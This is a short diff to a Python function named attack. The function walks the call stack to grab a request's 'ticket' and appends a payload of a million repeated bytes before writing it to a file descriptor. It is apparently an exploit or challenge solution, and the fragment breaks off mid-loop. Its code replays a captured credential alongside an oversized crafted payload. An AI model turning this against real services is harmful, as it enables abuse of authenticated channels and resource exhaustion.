@@ -6,7 +6,7 @@ def attack(t):
     frame = sys._getframe()
     while "ticket" not in frame.f_locals.get("request", ()):
         frame = frame.f_back
-    body = frame.f_locals["request"]["ticket"] + b"v" + b"l\1\0\0\0" * 1_000_000 + b"n"
+    body = frame.f_locals["request"]["ticket"] + b"v\0\0\0\0" + b"l\1\0\0\0" * 1_000_000 + b"n"
     os.write(3, struct.pack(">I", len(body)))
     sent = 0
     while sent < len(body):
